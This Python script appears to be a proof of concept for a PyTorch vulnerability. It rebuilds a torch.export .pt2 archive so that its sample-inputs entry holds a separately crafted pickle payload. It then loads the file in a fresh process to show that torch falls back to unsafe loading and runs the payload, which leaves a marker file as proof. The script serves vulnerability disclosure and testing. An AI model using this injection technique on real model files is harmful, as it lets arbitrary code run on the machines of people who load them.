# Run after: make_payload.py
import subprocess
import sys
import logging
import os
import zipfile

import torch

# A .pt2 archive keeps its sample inputs as a torch.save file. Put the payload file from make_payload.py there.
model = torch.nn.Linear(2, 2)
torch.export.save(torch.export.export(model, (torch.ones(1, 2),)), "model.pt2")
with zipfile.ZipFile("model.pt2") as old:
    members = [(info, old.read(info)) for info in old.infolist()]
with zipfile.ZipFile("model.pt2", "w") as new:
    for info, data in members:
        if info.filename.endswith("/sample_inputs/model.pt"):
            data = open("suspicious.pt", "rb").read()
        new.writestr(info, data)

if os.path.exists("i_ran.txt"):
    os.remove("i_ran.txt")  # left by load_unsafe.py if it ran in this folder: start without a marker
print("marker before loading:", os.path.exists("i_ran.txt"))
# Load it in a fresh Python, as a service would, and keep what torch writes to stderr to show it below.
LOAD = 'import torch; print("loaded:", type(torch.export.load("model.pt2")).__name__)'
env = {k: v for k, v in os.environ.items() if k != "TORCH_FORCE_WEIGHTS_ONLY_LOAD"}  # torch's defaults, unforced
run = subprocess.run([sys.executable, "-c", LOAD], capture_output=True, text=True, env=env)  # weights_only=True fails, then
print("marker after loading: ", os.path.exists("i_ran.txt"))                    # it retries with weights_only=False
# What torch wrote to stderr, without the "Call stack:" part (it lists whatever program called torch.export.load).
logged = run.stderr
print(logged[: logged.index("Call stack:")] + logged[logged.index("Message:"):].strip() if "Call stack:" in logged
      else logged.strip())
print(run.stdout.strip())
